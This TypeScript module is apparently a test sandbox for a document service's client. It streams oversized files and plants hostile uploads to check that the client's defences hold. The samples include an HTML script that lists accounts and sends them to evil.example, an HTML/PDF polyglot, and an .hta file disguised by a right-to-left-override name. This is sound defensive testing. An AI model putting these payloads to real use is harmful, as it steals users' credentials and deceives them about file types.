import { Readable } from 'node:stream'
import type { FastifyInstance } from 'fastify'
import type { SandboxContext } from './context'

/**
 * Hostile files: what a service gone wrong, or a proxy that means harm, could send as a
 * document's files. Two fault modes (set like every fault: `faults` at start, `PUT
 * /_sandbox/faults`, `sandbox.setFaults`), and originals that must never be opened or saved
 * as what their names claim ({@link HOSTILE_ORIGINALS}, planted through the ordinary upload).
 * Docket's integration tests use them so the defences stay in place.
 */

/** Fault settings of hostile files, in bytes; 0 (default) is off. */
export interface HostileFileFaults {
  /**
   * > 0: every preview answers this many bytes (a PNG signature, then filler), `image/png`,
   * streamed without Content-Length as the client reads, so the size is only known by reading.
   */
  hugePreviewBytes?: number
  /**
   * > 0: every `original_file` answers a JSON body of this many bytes (one base64 string that
   * never ends soon), streamed the same way.
   */
  hugeOriginalBytes?: number
}

/** Hostile file faults off. */
export const NO_HOSTILE_FILE_FAULTS: Required<HostileFileFaults> = { hugePreviewBytes: 0, hugeOriginalBytes: 0 }

/** Bytes of the hostile streams the sandbox actually sent since it started (the client stops reading). */
export const hostileBytesSent = { previews: 0, originals: 0 }

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const PREVIEW_ROUTE = '/api/v1_2/documents/:document_id/preview'
const ORIGINAL_ROUTE = '/api/v1_2/documents/:document_id/original_file'

/** `head`, then `filler` bytes up to `total`, then `tail`, in 64 KiB chunks as the reader asks; counts what it sent. */
function streamOf(total: number, head: Buffer, tail: Buffer, filler: number, count: (n: number) => void): Readable {
  const chunk = Buffer.alloc(64 * 1024, filler)
  let left = Math.max(0, total - head.length - tail.length)
  let stage: 'head' | 'body' | 'done' = 'head'
  return new Readable({
    read() {
      if (stage === 'head') {
        stage = 'body'
        count(head.length)
        return void this.push(head)
      }
      if (stage === 'done') return void this.push(null)
      if (left <= 0) {
        stage = 'done'
        count(tail.length)
        return void this.push(tail)
      }
      const next = left >= chunk.length ? chunk : chunk.subarray(0, left)
      left -= next.length
      count(next.length)
      this.push(next)
    },
  })
}

/**
 * Registers the hostile file faults: a hook that, while `hugePreviewBytes` or
 * `hugeOriginalBytes` is set, answers the preview or `original_file` route with the hostile
 * stream instead of the real file (after the fault hooks of every request, before the route).
 */
export function registerHostileFiles(app: FastifyInstance, ctx: Pick<SandboxContext, 'faults'>): void {
  app.addHook('preHandler', async (request, reply) => {
    const faults = ctx.faults.get()
    const route = request.routeOptions.url
    if (route === PREVIEW_ROUTE && (faults.hugePreviewBytes ?? 0) > 0) {
      const body = streamOf(faults.hugePreviewBytes!, PNG_SIGNATURE, Buffer.alloc(0), 0x00, (n) => {
        hostileBytesSent.previews += n
      })
      return reply.type('image/png').send(body)
    }
    if (route === ORIGINAL_ROUTE && (faults.hugeOriginalBytes ?? 0) > 0) {
      const head = Buffer.from(
        '{"documents":[{"id":1,"user_file_name":"huge.pdf","original_content_type":"application/pdf","original_file_base64":"',
      )
      const body = streamOf(faults.hugeOriginalBytes!, head, Buffer.from('"}]}'), 0x41, (n) => {
        hostileBytesSent.originals += n
      })
      return reply.type('application/json; charset=utf-8').send(body)
    }
  })
}

/** One hostile original: the name and type the uploader claimed, and the bytes. */
export interface HostileOriginal {
  filename: string
  contentType: string
  bytes: Buffer
  /** What Docket must do with it: refuse it, or write it only under this safe name. */
  expect: { refused: true } | { refused: false; savedAs: string }
}

const HTML = Buffer.from(
  '<!doctype html><html><body><script>window.docket.invoke("auth.listAccounts",{}).then(a=>fetch("https://evil.example/?"+JSON.stringify(a)))</script></body></html>',
)
/** A minimal PDF: real bytes under a hostile name must come out as `.pdf`. */
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
)

/**
 * An HTML page with a PDF header inside its first kilobyte (an HTML/PDF polyglot): a reader
 * that looks for `%PDF-` anywhere in the first 1024 bytes takes it for a PDF, a browser for a page.
 */
export const HTML_PDF_POLYGLOT = Buffer.concat([
  Buffer.from('<html><!-- '),
  PDF,
  Buffer.from(' --><script>alert(1)</script></html>'),
])

/**
 * Originals named and typed to be run or rendered (an executable, a batch file, a macOS
 * `.command`, an HTML application behind a right-to-left override that makes
 * `invoice\u202Efdp.hta` read `invoiceath.pdf`), with HTML or script bytes; and one real PDF
 * under an executable's name.
 */
export const HOSTILE_ORIGINALS: readonly HostileOriginal[] = [
  { filename: 'invoice.exe', contentType: 'application/x-msdownload', bytes: HTML, expect: { refused: true } },
  {
    filename: 'evil.bat',
    contentType: 'application/x-bat',
    bytes: Buffer.from('@echo off\r\ncalc.exe\r\n'),
    expect: { refused: true },
  },
  {
    filename: 'run.command',
    contentType: 'application/x-sh',
    bytes: Buffer.from('#!/bin/sh\nopen -a Calculator\n'),
    expect: { refused: true },
  },
  { filename: 'invoice\u202Efdp.hta', contentType: 'application/pdf', bytes: HTML, expect: { refused: true } },
  { filename: 'statement.pdf', contentType: 'application/pdf', bytes: HTML_PDF_POLYGLOT, expect: { refused: true } },
  {
    filename: 'scan.exe',
    contentType: 'application/x-msdownload',
    bytes: PDF,
    expect: { refused: false, savedAs: 'scan_exe.pdf' },
  },
]

/**
 * Uploads {@link HOSTILE_ORIGINALS} to `agendaId` of the sandbox at `url` as the user of
 * `token` (the ordinary `POST /api/v1_2/documents`, which accepts any bytes and name, as the
 * service may); resolves the new document id of each, by file name.
 * Errors: rejects when the sandbox does not answer 201.
 */
export async function plantHostileOriginals(
  url: string,
  token: string,
  agendaId: number,
): Promise<Map<string, number>> {
  const response = await fetch(`${url}/api/v1_2/documents`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      documents: HOSTILE_ORIGINALS.map((file) => ({
        type: 'PurchaseInvoice',
        agenda_id: agendaId,
        files: [{ filename: file.filename, content_type: file.contentType, content: file.bytes.toString('base64') }],
      })),
    }),
  })
  if (response.status !== 201) throw new Error(`planting hostile originals failed: HTTP ${response.status}`)
  const { documents } = (await response.json()) as { documents: { id: number }[] }
  return new Map(HOSTILE_ORIGINALS.map((file, i) => [file.filename, documents[i]!.id]))
}
